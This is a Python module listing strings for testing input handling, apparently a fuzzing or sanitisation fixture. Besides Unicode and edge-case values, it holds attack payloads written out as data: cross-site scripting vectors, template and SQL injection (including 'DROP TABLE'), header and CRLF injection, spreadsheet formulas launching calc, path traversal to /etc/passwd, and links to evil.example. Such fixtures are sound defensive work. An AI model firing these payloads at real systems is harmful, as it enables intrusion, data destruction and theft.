"""What somebody may type to break a page, a query, a template, a mail or a log."""

# ruff: noqa: RUF001 -- letters that look like others are the point

from __future__ import annotations

from typing import Final

TEXTS: Final = (
    # Markup and script.
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>go</a>",
    "javascript:alert(1)",
    "<!-- comment",
    "--> end of comment",
    "<![CDATA[ data ]]>",
    "&lt;b&gt; &amp;amp; &#x27; &#0; &notanentity;",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=csrf_token>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
    # Templates and formats.
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %d %(name)s %n %",
    "{0} {name} {0.__class__}",
    "\\N{BULLET} \\x41 \\u0041 \\n",
    # Queries.
    "'; DROP TABLE user_account; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "Robert'); DELETE FROM application_answer;--",
    "100% _ \\ ESCAPE",
    ":name :1 ? $1 %(param)s",
    "\\'; --",
    # Mail, headers, logs, sheets.
    "Subject: x\r\nBcc: evil@example.org",
    "a\r\nSet-Cookie: x=y",
    '=HYPERLINK("http://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # Paths and addresses.
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "//evil.example/path",
    "%00 %2e%2e%2f %0d%0a",
    # Letters of every kind.
    "\N{RIGHT-TO-LEFT OVERRIDE}txt.exe",
    "\N{RIGHT-TO-LEFT ISOLATE}שלום\N{POP DIRECTIONAL ISOLATE} مرحبا",
    "zero\N{ZERO WIDTH SPACE}width\N{ZERO WIDTH JOINER}join\N{SOFT HYPHEN}hyphen",
    "\N{MAN}\N{ZERO WIDTH JOINER}\N{MICROSCOPE} \N{FAMILY} \N{REGIONAL INDICATOR SYMBOL LETTER G}",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "e\N{COMBINING ACUTE ACCENT} é \N{ANGSTROM SIGN} Å",
    "\N{NO-BREAK SPACE}between\N{IDEOGRAPHIC SPACE}spaces\N{LINE SEPARATOR}",
    "mark\N{ZERO WIDTH NO-BREAK SPACE}mark",
    "\N{REPLACEMENT CHARACTER}\N{OBJECT REPLACEMENT CHARACTER}",
    "İstanbul ıI ß ẞ ǅ",
    "数据 データ 데이터 ข้อมูล данные",
    "𝕬𝖉𝖆 𝓕𝓲𝓮𝓵𝓭 \N{MATHEMATICAL BOLD CAPITAL A}",
    "٣٤٥ ५६७ Ⅷ ½ ²",
    # Values that other layers may take for something else.
    "null",
    "None",
    "true",
    "[]",
    "{}",
    "NaN",
    "-0",
    "1e309",
    "0x1F",
    "2027-02-30",
    '["a", {"b": 1}]',
    "\\",
    "lines\r\n\r\nbetween\r\nlines",
)
